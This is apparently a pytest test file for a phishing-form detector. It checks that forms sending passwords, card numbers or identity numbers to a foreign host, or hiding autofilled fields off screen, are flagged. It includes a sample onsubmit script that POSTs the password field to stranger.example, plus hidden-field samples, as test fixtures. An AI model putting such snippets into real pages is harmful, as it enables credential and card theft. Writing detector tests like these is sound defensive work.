import pytest

from clausewise.detect.form import FormInspector
from clausewise.extract import Extract, Field, Form, Passage, Script, Trick
from clausewise.model import Medium, Part
from clausewise.ports import Inspector
from tests.small import REGISTER

INSPECTOR = FormInspector(REGISTER)
STRANGER = "https://stranger.example/a.php"
PASSWORD = Field("password", "password", "Mot de passe", path="form > input:nth-of-type(2)")
CARD = Field("cc", "text", "Numéro de carte", "cc-number")
NAS = Field("nas", "text", "Numéro d'assurance sociale")
EMAIL = Field("courriel", "email", "Courriel", "email")


def seen(action, *fields, medium=Medium.PAGE, **more):
    form = Form(action, "post", fields, "html > body > form")
    (signals,) = INSPECTOR.inspect([Extract(Part(medium), forms=(form,), **more)])
    return {one.name: one.score for one in signals}


def test_form_is_an_inspector_when_the_cascade_asks():
    assert isinstance(INSPECTOR, Inspector)
    assert INSPECTOR.inspect([Extract(Part(Medium.PAGE))]) == [[]]


@pytest.mark.parametrize(
    ("field", "signal"), [(PASSWORD, "form.password"), (CARD, "form.card"), (NAS, "form.identity")]
)
@pytest.mark.parametrize(
    "action", [STRANGER, "http://203.0.113.9/a.php", "https://formspree.io/f/a", "mailto:lea@stranger.example"]
)
def test_secret_is_told_when_it_goes_to_a_stranger(field, signal, action):
    told = seen(action, EMAIL, field)
    assert told[signal] >= 0.85
    assert told["form.elsewhere"] >= 0.85


@pytest.mark.parametrize(
    "fields", [(EMAIL, PASSWORD), (CARD,), (PASSWORD, Field("new", "password", autocomplete="new-password"))]
)
def test_form_is_the_services_own_when_it_sends_to_the_operator(fields):
    assert seen("https://www.shop.example/login", *fields) == {}


@pytest.mark.parametrize(
    ("action", "fields"),
    [
        ("/search", (Field("q", "search", "Chercher"),)),
        ("https://stranger.us1.list-manage.example/subscribe/post", (EMAIL,)),
        ("https://formspree.io/f/a", (EMAIL, Field("message", "textarea", "Votre message"))),
        ("/login", (EMAIL, PASSWORD)),
        ("/commande", (EMAIL, CARD, Field("adresse", "text", "Adresse postale", "street-address"))),
        ("https://checkout.stripe.com/pay", (CARD,)),
        ("mailto:lea@maya.example", (Field("message", "textarea", "Votre message"),)),
    ],
)
def test_form_weighs_little_when_honest_people_make_such(action, fields):
    assert all(score < 0.5 for score in seen(action, *fields).values())


def test_own_place_excuses_less_when_more_speaks_against_the_form():
    assert seen("", PASSWORD)["form.password"] < 0.5
    assert seen("", PASSWORD, inside="lettre.eml")["form.password"] >= 0.5
    assert seen("", PASSWORD, passages=(Passage("Connectez-vous à SHOPLY"),))["form.password"] >= 0.5
    assert seen("", Field("mdp", "text", "Mot de p@sse"))["form.password"] >= 0.5
    assert seen("", CARD, Field("nip", "text", "NIP de la carte"))["form.card"] >= 0.8
    assert seen("", CARD, PASSWORD, NAS)["form.identity"] >= 0.8
    code = Script("form.onsubmit=()=>{fetch('https://stranger.example/a',{method:'POST',body:form.password.value})}")
    assert seen("", PASSWORD, scripts=(code,))["form.password"] >= 0.85


def test_everything_counts_together_when_a_stranger_receives_it():
    alone = seen(STRANGER, PASSWORD)["form.password"]
    assert seen(STRANGER, PASSWORD, CARD, NAS, passages=(Passage("Shoply"),))["form.password"] > alone


def test_contacts_are_told_when_a_form_asks_for_other_people():
    friends = Field("amis", "textarea", "Les courriels de vos amis")
    assert seen(STRANGER, friends)["form.contacts"] >= 0.85
    assert seen("", friends)["form.contacts"] >= 0.5
    assert seen("https://www.shop.example/invite", friends) == {}


def test_field_is_told_when_a_browser_fills_it_in_unseen():
    card = Field("cc", "text", "", "cc-number", trick=Trick.OFF_SCREEN)
    street = Field("a", "text", "", "street-address", trick=Trick.OPACITY)
    trap = Field("website", "text", "", "off", trick=Trick.DISPLAY)
    assert seen("", EMAIL, card)["form.hidden"] >= 0.9
    assert seen("", EMAIL, street)["form.hidden"] >= 0.8
    assert "form.hidden" not in seen("", EMAIL, trap)
    # A second step of the same form shows all of its fields at once.
    assert "form.hidden" not in seen("", card, street)


def test_evidence_stands_at_the_field_when_a_secret_is_asked_for():
    form = Form(STRANGER, "post", (EMAIL, PASSWORD), "html > body > form")
    (signals,) = INSPECTOR.inspect([Extract(Part(Medium.PAGE), forms=(form,), inside="a.html")])
    spots = {one.name: one.evidence[0] for one in signals}
    assert spots["form.password"].place == "a.html > form > input:nth-of-type(2)"
    assert spots["form.password"].sense == "password/stranger"
    assert spots["form.elsewhere"].excerpt == STRANGER


def test_person_looks_when_a_page_says_itself_that_it_stands_at_another_host():
    told = seen("https://stranger.example/a.php", CARD, base="https://stranger.example/")
    assert 0.5 <= told["form.card"] < 0.65
    assert seen("/a.php", CARD).get("form.card", 0.0) < 0.5
